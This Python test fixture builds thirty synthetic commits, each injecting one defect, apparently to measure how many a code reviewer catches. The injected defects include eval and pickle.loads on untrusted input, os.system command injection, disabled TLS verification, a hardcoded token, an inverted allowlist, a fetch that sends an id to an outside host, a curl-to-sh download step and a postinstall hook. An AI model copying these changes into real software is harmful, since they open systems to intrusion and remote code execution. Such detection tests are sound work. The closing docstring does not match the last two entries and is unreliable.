"""Thirty commits with a defect in the last of their files by path: what a careless or hasty author leaves behind.

The last few are such as no rule here sees: they say how much is missed.
"""

from collections.abc import Iterator

from tests.attention.commits import Texts
from tests.attention.ordinary import CHANGED

Defect = tuple[str, str, str, str]
"""The path, text around it, and what becomes of what."""

_FETCH = '''\
import logging
import urllib.parse

log = logging.getLogger(__name__)


def wanted(url, allowed):
    """Whether a page may be asked for."""
    host = urllib.parse.urlsplit(url).hostname
    if host not in allowed:
        raise PermissionError(host)
    return host


def parse(text):
    try:
        return float(text)
    except ValueError as error:
        log.warning("not a number: %s", error)
        raise


def ask(session, url, allowed):
    wanted(url, allowed)
    answer = session.get(url, timeout=10)
    assert answer.status_code == 200, answer.status_code
    return parse(answer.text)
'''
_TESTS = """\
import pytest

from zeta.fetch import parse, wanted


def test_a_strange_host_is_refused():
    with pytest.raises(PermissionError):
        wanted("https://evil.example/x", {"tides.example"})


def test_a_number_is_read():
    assert parse("1.5") == 1.5
    assert parse("-2") == -2.0


def test_no_number_is_refused():
    with pytest.raises(ValueError):
        parse("high")
"""
_JS = """\
import { settings } from "./settings.js";

export async function load(store, id) {
  const found = await store.read(id);
  if (!found) {
    throw new Error(`no reading ${id}`);
  }
  return JSON.parse(found);
}

export function save(store, reading) {
  try {
    store.write(reading.id, JSON.stringify(reading));
  } catch (error) {
    settings.report(error);
    throw error;
  }
}
"""
_JS_TESTS = """\
import { load } from "../web/store.js";

describe("load", () => {
  it("reads what was written", async () => {
    expect(await load(new Map([["a", "1"]]), "a")).toBe(1);
  });

  it("refuses what is not there", async () => {
    await expect(load(new Map(), "b")).rejects.toThrow();
  });
});
"""
_GO = """\
package zone

import (
	"errors"
	"os"
)

var ErrEmpty = errors.New("empty")

func Read(path string) ([]byte, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	if len(data) == 0 {
		return nil, ErrEmpty
	}
	if len(data) > 1<<20 {
		return nil, errors.New("too large")
	}
	return data, nil
}
"""
_JAVA = """\
package zeta;

class Vault {
  private final Store store;

  Vault(Store store) {
    this.store = store;
  }

  byte[] open(User user, String name) {
    if (!user.mayRead(name)) {
      throw new SecurityException(name);
    }
    try {
      return store.read(name);
    } catch (java.io.IOException error) {
      throw new java.io.UncheckedIOException(error);
    }
  }
}
"""
_SHELL = '#!/bin/sh\nset -eu\nversion=$1\ngit tag "v$version"\nmake dist\necho "$version is ready"\n'
_RUST = """\
pub fn parse(text: &str) -> Result<u32, String> {
    let value: u32 = text.trim().parse().map_err(|_| text.to_string())?;
    if value > 4096 {
        return Err(format!("{value} is too deep"));
    }
    Ok(value)
}

#[test]
fn test_deep_is_refused() {
    assert!(parse("5000").is_err());
}
"""
_RUBY = """\
class Zone
  def read(path)
    File.read(path)
  rescue Errno::ENOENT => error
    warn error
    raise
  end
end
"""
_CLIENT = (
    "import requests\n\n\ndef tides(url):\n    answer = requests.get(url, timeout=5)\n    return answer.json()\n"
)
_PACKAGE = '{\n  "name": "zeta",\n  "scripts": {\n    "test": "node --test"\n  }\n}\n'

DEFECTS: tuple[Defect, ...] = (
    ("zeta/fetch.py", _FETCH, "        raise PermissionError(host)\n", "        log.info(host)\n"),
    ("zeta/fetch.py", _FETCH, '        log.warning("not a number: %s", error)\n        raise\n', "        pass\n"),
    ("zeta/fetch.py", _FETCH, "    except ValueError as error:", "    except:"),
    ("zeta/fetch.py", _FETCH, "        return float(text)", "        return eval(text)"),
    ("zeta/fetch.py", _FETCH, "    assert answer.status_code == 200, answer.status_code\n", ""),
    ("zeta/fetch.py", _FETCH, "timeout=10)", "timeout=10, verify=False)"),
    ("zeta/fetch.py", _FETCH, "log = logging", 'API_TOKEN = "7f3e9a1c5b2d8064"\nlog = logging'),
    ("zeta/fetch.py", _FETCH, "    return host\n", '    os.system("ping -c1 " + host)\n    return host\n'),
    ("zeta/fetch.py", _FETCH, "    return parse(answer.text)\n", "    return pickle.loads(answer.content)\n"),
    ("zeta/fetch.py", _FETCH, "    wanted(url, allowed)\n    answer = session.get(url, timeout=10)",
     "    answer = urllib.request.urlopen(url)"),
    ("zeta/tests/test_fetch.py", _TESTS, '    assert parse("-2") == -2.0\n', ""),
    ("zeta/tests/test_fetch.py", _TESTS, _TESTS[_TESTS.index("def test_no_number") - 2 :], ""),
    ("zeta/tests/test_fetch.py", _TESTS, "def test_a_strange_host", "@pytest.mark.skip\ndef test_a_strange_host"),
    ("zeta/tests/test_fetch.py", _TESTS, _TESTS[: _TESTS.index("def test_a_number")],
     "from zeta.fetch import parse\n\n\n"),
    ("web/store.js", _JS, "    settings.report(error);\n    throw error;\n", "    // never mind\n"),
    ("web/store.js", _JS, "    throw new Error(`no reading ${id}`);\n", "    return null;\n"),
    ("web/store.js", _JS, "JSON.parse(found)", "eval(`(${found})`)"),
    ("web/store.js", _JS, "  return JSON", '  await fetch("https://count.example/" + id);\n  return JSON'),
    ("web/tests/store.test.js", _JS_TESTS, '    await expect(load(new Map(), "b")).rejects.toThrow();\n',
     "    await 0;\n"),
    ("web/tests/store.test.js", _JS_TESTS, 'it("refuses', 'it.skip("refuses'),
    ("zone/read.go", _GO, "		return nil, err\n", ""),
    ("zone/read.go", _GO, "	if len(data) > 1<<20 {\n		return nil, errors.New(\"too large\")\n	}\n", ""),
    ("zeta/Vault.java", _JAVA, "      throw new SecurityException(name);\n", "      log(name);\n"),
    ("zeta/release.sh", _SHELL, "make dist\n", "curl -s https://get.example/tool | sh\nmake dist\n"),
    ("zeta/parse.rs", _RUST, '        return Err(format!("{value} is too deep"));\n', "        return Ok(4096);\n"),
    ("zone.rb", _RUBY, "    warn error\n    raise\n", "    nil\n"),
    ("zeta/client.py", _CLIENT, "requests.get(url, timeout=5)", "requests.get(url.strip())"),
    ("zeta/package.json", _PACKAGE, '    "test"', '    "postinstall": "node setup.js",\n    "test"'),
    ("zeta/fetch.py", _FETCH, "    if host not in allowed:", "    if host in allowed:"),
    ("zone/read.go", _GO, "1<<20", "1<<30"),
)  # fmt: skip
"""The last two, an `except:` that names nothing and a client without its timeout look like any other change."""


def commits() -> Iterator[tuple[str, dict[str, Texts]]]:
    """The path of each defect, and the commit that it is in: with four to nine other files, some in each language."""
    for number, (path, text, before, after) in enumerate(DEFECTS):
        assert before in text, (path, before)
        size = 4 + number % 6
        others = [CHANGED[(number * 3 + step * 5) % len(CHANGED)] for step in range(size)]
        files: dict[str, Texts] = {name: (old, new) for name, old, new in others}
        files[path] = (text, text.replace(before, after, 1))
        assert max(files) == path
        yield path, files
